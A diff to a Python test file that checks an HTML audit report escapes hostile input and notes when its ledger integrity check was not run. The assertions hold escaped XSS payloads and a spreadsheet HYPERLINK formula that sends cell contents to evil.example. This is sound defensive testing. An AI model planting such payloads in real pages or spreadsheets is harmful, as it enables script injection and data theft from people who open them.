@@ -844,7 +844,12 @@ def test_html_page(written: Path) -> None:
     assert "/docs/&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" in page
     assert "&lt;script&gt;alert(1)&lt;/script&gt; outage" in page
     assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)" in page
-    assert "<code>gatehouse audit verify</code>" in page
+    # Built without the ledger check: the integrity section says so and how to run it.
+    assert "<p>Not verified with this report.</p>" in page
+    assert (
+        "<code>gatehouse audit verify --since 2026-03-02T08:00:00.000Z "
+        "--until 2026-03-02T12:00:00.000Z</code>"
+    ) in page
 
 
 def test_csv_defuses_the_hostile_user_agent(written: Path) -> None:
